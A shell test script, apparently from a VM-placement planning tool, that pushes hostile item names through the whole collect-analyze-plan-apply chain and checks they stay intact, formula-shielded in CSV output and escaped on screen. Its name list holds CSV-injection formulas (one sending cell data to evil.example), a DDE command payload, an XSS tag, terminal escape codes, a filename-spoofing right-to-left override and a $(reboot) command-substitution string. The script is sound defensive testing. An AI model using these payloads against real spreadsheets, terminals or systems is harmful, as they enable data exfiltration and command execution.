# SPDX-License-Identifier: MIT
# Names that are formulas, markup, terminal escapes or very long are legal: they go through the whole chain unharmed,
# carry a leading ' in the files where a spreadsheet would take them for a formula, and are shown escaped.
. "$TOP/tests/pipeline/lib/refusal.sh"

cat >names.py <<'END'
import csv, glob, sys, unicodedata

NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "''quoted'",
         "\tafter a tab", "\rafter a return", "two\nlines, \"quoted\"", '","', "<script>alert(1)</script>&b;<!--",
         "\x1b[2J\x1b]0;owned\x07\x9b31m", "safe\u202etxt.exe\u200b\u2028line", "\ufeffmark",
         "%s%n%n%d../../etc/passwd$(reboot) `reboot` ;|&", "#snapshot", "x" * 10000, "\U0001f600" * 2500]

def shielded(name):
    return "'" + name if name[0] in "=+-@'\t\r" else name

def build(name):
    """in/ is the small snapshot, every name of it replaced."""
    for path in glob.glob("in/*.csv"):
        rows = list(csv.reader(open(path, newline="")))
        for row in rows[1:]:
            for i, column in enumerate(rows[0]):
                if column in ("name", "folder"):
                    row[i] = shielded(name if column == "folder" or row[0][0] in "cpr" else name + row[0][-1])
        csv.writer(open(path, "w", newline=""), lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(rows)

def check_shown(path):
    """Nothing that a terminal acts on or that hides or reorders text."""
    for line in open(path, encoding="utf-8", newline="\n"):
        for c in line.rstrip("\n"):
            if unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp"):
                sys.exit("%s: shows U+%04X: %r" % (path, ord(c), line[:200]))

def check(name, paths):
    """Nothing shown acts on a terminal, each file has the name, every cell with it shielded where it must be."""
    check_shown("shown")
    for path in paths:
        cells = [cell for row in csv.reader(open(path, newline="")) for cell in row]
        own = [cell for cell in cells if cell.removeprefix("'").startswith(name) or cell.startswith(name)]
        for cell in own:
            by_hand = path == "plan.csv"  # shields what a spreadsheet would rewrite, too
            if not cell.startswith(shielded(name)) and not (by_hand and cell.startswith("'" + name)):
                sys.exit("%s: %r stands as %r" % (path, name[:40], cell[:40]))
        if not own:
            sys.exit("%s: %r is gone" % (path, name[:40]))

if sys.argv[1] == "count":
    print(len(NAMES))
else:
    name = NAMES[int(sys.argv[2])]
    build(name) if sys.argv[1] == "build" else check(name, sys.argv[3:])
END

# runs PROGRAM ARGUMENT...: it succeeds; what it prints is kept
runs() {
    program=$1
    shift
    "$BIN/$program" "$@" >>shown 2>&1 || {
        echo "name $index: $program $* failed"
        tail -n 3 shown
        exit 1
    }
}

index=0
while test $index -lt "$(python3 names.py count)"; do
    rm -rf in out again after* plan*
    mkdir out
    : >shown
    small_snapshot in
    python3 names.py build $index
    runs collect in -o out/snapshot
    runs collect out/snapshot -o again
    diff -r out/snapshot again
    runs analyze -v out/snapshot -o assessment.csv
    runs plan -v out/snapshot assessment.csv -o plan.csv
    runs plan --show plan.csv
    runs plan --explain vm-1 out/snapshot assessment.csv
    runs plan --explain h-1 out/snapshot assessment.csv
    runs plan --what-if max_moves=1 out/snapshot assessment.csv
    runs plan --lose h-1 out/snapshot assessment.csv
    runs plan --fits 1cpu,1GiB out/snapshot assessment.csv
    runs plan --show plan.csv --govc
    runs plan --check plan.csv out/snapshot assessment.csv -o plan-again.csv
    cmp plan.csv plan-again.csv
    runs apply -v plan.csv out/snapshot -o after
    runs analyze -v after -o after.csv
    python3 names.py check $index out/snapshot/clusters.csv out/snapshot/pools.csv out/snapshot/hosts.csv out/snapshot/vms.csv \
        out/snapshot/rules.csv assessment.csv plan.csv after/clusters.csv after/vms.csv after.csv
    index=$((index + 1))
done
